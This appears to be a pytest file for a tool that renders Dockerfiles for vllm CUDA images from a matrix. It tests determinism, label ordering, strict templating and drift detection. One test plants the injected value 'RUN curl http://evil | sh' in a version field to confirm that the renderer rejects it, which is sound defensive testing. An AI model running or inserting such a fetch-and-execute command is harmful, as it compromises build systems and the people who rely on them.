"""Rendering is pure and strict: same target, same bytes; labels last; undefined is an error."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import jinja2
import pytest

from builder.cli import main
from builder.config import contract, matrix
from builder.dockerfile import render
from tests.conftest import REPO

PATH = Path("matrix.yaml")


@pytest.fixture()
def cu129():
    return matrix.load(REPO / "matrix.yaml").target("cu129")


RENDER = (
    "import sys; from pathlib import Path; from builder.config import matrix; from builder.dockerfile import render; "
    "sys.stdout.write(render.render(matrix.load(Path('matrix.yaml')).target('cu129')))"
)


def _render_in_a_new_process(seed: str) -> str:
    """Rendered by another interpreter with another string-hash seed: set and dict orders that
    depend on hashing differ between processes, never between two calls in one."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("K3_", "PYTHONHASHSEED"))}
    env["PYTHONHASHSEED"] = seed
    proc = subprocess.run([sys.executable, "-c", RENDER], cwd=REPO, env=env, capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    return proc.stdout


def test_render_is_deterministic_across_processes_and_matches_the_committed_file(cu129):
    first = _render_in_a_new_process("0")
    assert _render_in_a_new_process("4242") == first
    assert render.render(cu129) == first
    assert (REPO / "dockerfiles" / "cu129" / "Dockerfile").read_text() == first


def test_sets_in_the_matrix_render_in_a_fixed_order(cu129):
    # Collections the template loops over are sorted: the order in the matrix does not matter.
    ctx = render.template_vars(cu129)
    for key in ("apt_packages", "secrets", "compile_env", "runtime_env", "labels"):
        assert list(ctx[key]) == sorted(ctx[key]), key
    reordered = cu129.model_copy(
        update={"compile": cu129.compile.model_copy(update={"env": dict(reversed(list(cu129.compile.env.items())))})}
    )
    assert render.render(reordered) == render.render(cu129)


def test_every_pinned_value_reaches_the_dockerfile(cu129):
    text = render.render(cu129)
    assert f"ARG BUILD_BASE_IMAGE={cu129.bases.build.ref}\n" in text
    assert f"ARG RUNTIME_BASE_IMAGE={cu129.bases.runtime.ref}\n" in text
    assert 'ARG TORCH_CUDA_ARCH_LIST="7.5 8.0 8.6 8.9 9.0 10.0 10.3 12.0"' in text
    assert f'"{contract.OCI_REVISION}"="{cu129.source.commit}"' in text
    assert f'"{contract.LABEL_EXPIRES}"="2027-06-30"' in text
    assert 'ENTRYPOINT ["vllm", "serve"]' in text
    assert "USER 2000:2000" in text
    assert "/opt/k3/python/bin/python3 -m venv" in text  # standalone interpreter for 3.12


def test_labels_are_last_and_sorted(cu129):
    text = render.render(cu129)
    label_at = text.index("\nLABEL ")
    assert not re.search(r"^(RUN|COPY|FROM|ENV|USER|ENTRYPOINT) ", text[label_at:], re.M)
    keys = re.findall(r'^\s*(?:LABEL )?"([^"]+)"=', text[label_at:], re.M)
    assert keys == sorted(keys)
    assert contract.OCI_CREATED in keys and contract.LABEL_OWNER in keys


def test_final_stage_has_no_run_step(cu129):
    final = render.render(cu129).split("AS runtime\n", 1)[1]
    assert "\nRUN " not in final  # reproducibility: the final image only gains one COPY of /opt


def test_template_uses_strict_undefined(cu129):
    ctx = render.template_vars(cu129)
    del ctx["uid"]
    template = render._environment().get_template("Dockerfile.j2")
    with pytest.raises(jinja2.UndefinedError):
        template.render(**ctx)


def test_system_python_targets_skip_the_standalone_stage(cu129):
    smoke_like = cu129.model_copy(update={"python": matrix.Python(version="3.11", glibc="2.36")})
    text = render.render(smoke_like)
    assert "cpython.tar.gz" not in text
    assert "/usr/bin/python3.11 -m venv /build/venv" in text


def test_render_check_cli_detects_hand_edits(tmp_path, capsys):
    m = tmp_path / "matrix.yaml"
    m.write_text((REPO / "matrix.yaml").read_text())
    with pytest.raises(SystemExit) as exit_info:
        main(["--matrix", str(m), "render", "--check"])
    assert exit_info.value.code == 1  # nothing rendered yet: missing counts as drift
    assert not (tmp_path / "dockerfiles").exists()
    with pytest.raises(SystemExit) as exit_info:
        main(["render", "--matrix", str(m)])
    assert exit_info.value.code == 0
    dockerfile = tmp_path / "dockerfiles" / "cu129" / "Dockerfile"
    with pytest.raises(SystemExit) as exit_info:
        main(["render", "--check", "--matrix", str(m)])
    assert exit_info.value.code == 0
    dockerfile.write_text(dockerfile.read_text().replace("USER 2000:2000", "USER root"))
    with pytest.raises(SystemExit) as exit_info:
        main(["--matrix", str(m), "render", "--check"])
    assert exit_info.value.code == 1
    assert "differs from what the matrix renders" in capsys.readouterr().err
    assert "USER root" in dockerfile.read_text()  # --check never writes


def test_injected_newline_is_rejected_and_nothing_is_written(tmp_path, capsys):
    m = tmp_path / "matrix.yaml"
    m.write_text(
        (REPO / "matrix.yaml").read_text().replace("version: 2.30.7", 'version: "2.30.7\\nRUN curl http://evil | sh"')
    )
    with pytest.raises(SystemExit) as exit_info:
        main(["--matrix", str(m), "render"])
    assert exit_info.value.code == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "targets.cu129.nccl.version" in err[0] and str(m) in err[0]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["matrix.yaml"]


def test_drift_says_missing_differs_or_nothing(cu129, tmp_path):
    path = tmp_path / "Dockerfile"
    assert render.drift(cu129, path) == "missing (not rendered)"
    path.write_text(render.render(cu129))
    assert render.drift(cu129, path) is None
    assert render.check_committed(cu129, path) == path.read_text()
    path.write_text(render.render(cu129) + "# hand edit\n")
    assert render.drift(cu129, path) == "differs from what the matrix renders"
    from builder.errors import DriftError

    with pytest.raises(DriftError) as info:
        render.check_committed(cu129, path)
    assert info.value.message == f"{path}: differs from what the matrix renders; run `build render --target cu129`"
    # A caller that rendered already passes its text: that text is what the file is compared with.
    path.write_text("other text")
    assert render.drift(cu129, path, rendered="other text") is None
    assert render.drift(cu129, path, rendered="something else") == "differs from what the matrix renders"


def test_third_party_sources_get_a_context_a_mount_and_their_variable(cu129):
    tps = render.third_party(cu129)
    assert [tp["name"] for tp in tps] == sorted(cu129.source.third_party)
    for tp in tps:
        spec = cu129.source.third_party[tp["name"]]
        mount = f"{render.THIRD_PARTY_ROOT}/{tp['name']}"
        assert tp == {
            "name": tp["name"],
            "context": f"tp-{tp['name']}",
            "mount": mount,
            "env": spec.env,
            "cmake_var": spec.cmake_var,
            "path": f"{mount}/{spec.subdir}" if spec.subdir else mount,
        }


def test_flash_attention_goes_to_fetchcontent_not_to_its_developer_mode_variable(cu129):
    """VLLM_FLASH_ATTN_SRC_DIR switches vllm_flash_attn.cmake to its developer path (FA4's cute
    tree symlinked to the build-only mount, imports not rewritten): the tree is handed to
    FetchContent instead, and every other tree through its own variable."""
    text = render.render(cu129)
    assert "VLLM_FLASH_ATTN_SRC_DIR" not in text
    args = render.cmake_args(cu129)
    assert args[:2] == ["-DFETCHCONTENT_FULLY_DISCONNECTED=ON", "-DCMAKE_POLICY_DEFAULT_CMP0170=NEW"]
    assert "-DFETCHCONTENT_SOURCE_DIR_VLLM-FLASH-ATTN=/third_party/vllm-flash-attn" in args
    assert f'CMAKE_ARGS="{" ".join(args)}"' in text
    for name, tp in cu129.source.third_party.items():
        assert (tp.env is None) == (name == "vllm-flash-attn")
        if tp.env:
            assert f"{tp.env}=/third_party/{name}" in text


def test_the_build_stage_asserts_every_tool_the_source_runs(cu129):
    text = render.render(cu129)
    assert "for tool in cmake g++ gcc ninja nvcc patch sccache; do command -v" in text
    assert text.index("for tool in") > text.index("PATH=/build/venv/bin")  # after the build lock's cmake/ninja
    assert "apt-get install -y --no-install-recommends g++ git patch" in text


def test_the_remote_cache_stage_lets_git_use_only_local_files(cu129):
    text = render.render(cu129)
    remote = text[text.index("FROM build AS compile-remote-cache") : text.index("AS compiled")]
    assert "export GIT_ALLOW_PROTOCOL=file" in remote


def test_the_wheel_is_installed_by_name_so_pip_records_no_build_path(cu129):
    text = render.render(cu129)
    assert '--no-index --find-links /build/dist "vllm==0.30.0+cu129"' in text
    assert "/build/dist/*.whl" not in text


def test_static_labels_come_from_the_target(cu129):
    labels = render.static_labels(cu129)
    assert labels[contract.LABEL_CUDA] == "12.9.1" and labels[contract.LABEL_EXPIRES] == "2027-06-30"
    assert labels[contract.LABEL_OWNER] == cu129.owner and labels[contract.LABEL_TARGET] == "cu129"
    assert labels[contract.OCI_BASE_DIGEST] == cu129.bases.runtime.digest
    assert labels[contract.OCI_BASE_NAME] == cu129.bases.runtime.display_name
    assert labels[contract.OCI_REVISION] == cu129.source.commit
    assert labels[contract.OCI_VERSION] == "0.30.0+cu129"
    assert labels[contract.OCI_TITLE] == "vllm (cu129)"
    assert labels[contract.OCI_DESCRIPTION] == cu129.description and labels[contract.OCI_VENDOR] == cu129.vendor
    assert labels[contract.OCI_LICENSES] == cu129.licenses


def test_every_template_variable_is_used(cu129):
    # A variable the template no longer reads is dead weight, and a renamed one is an error
    # (StrictUndefined): removing any one variable changes the output or fails.
    full = render.render(cu129)
    template = render._environment().get_template("Dockerfile.j2")
    for key in render.template_vars(cu129):
        ctx = render.template_vars(cu129)
        del ctx[key]
        try:
            changed = template.render(**ctx) != full
        except jinja2.UndefinedError:
            changed = True
        assert changed or key in UNUSED_FOR_CU129, key


# Variables the cu129 render does not read. lock_name: template_vars still passes it, the template
# (runtime layers) no longer reads it; dead, reported to render.py's owner.
UNUSED_FOR_CU129 = {"lock_name"}


def test_output_path_is_beside_the_matrix(tmp_path):
    assert render.output_path(tmp_path / "matrix.yaml", "smoke") == tmp_path.resolve() / "dockerfiles/smoke/Dockerfile"


def test_the_scripts_the_build_runs_are_named_by_sha256_in_the_dockerfile(cu129, tmp_path):
    """layer_files.py and relocate.py decide layers and bytecode: a change to either changes the
    Dockerfile's hash, so the input key and the record see it; the context gets exactly those bytes."""
    import hashlib

    from builder.deps import buildcontext

    text = render.render(cu129)
    named = render.scripts_named(text)
    assert set(named) == {"tools/layer_files.py", "python/relocate.py"}
    for path, digest in named.items():
        data = (render.TEMPLATES / contract.CONTEXT_SCRIPTS[path]).read_bytes()
        assert digest == hashlib.sha256(data).hexdigest()
    buildcontext._scripts_into(text, tmp_path)
    assert (tmp_path / "tools" / "layer_files.py").read_bytes() == (render.TEMPLATES / "layer_files.py").read_bytes()
    stale = text.replace(named["tools/layer_files.py"], "0" * 64)
    with pytest.raises(buildcontext.BuildError, match="layer_files.py changed during the build"):
        buildcontext._scripts_into(stale, tmp_path / "again")
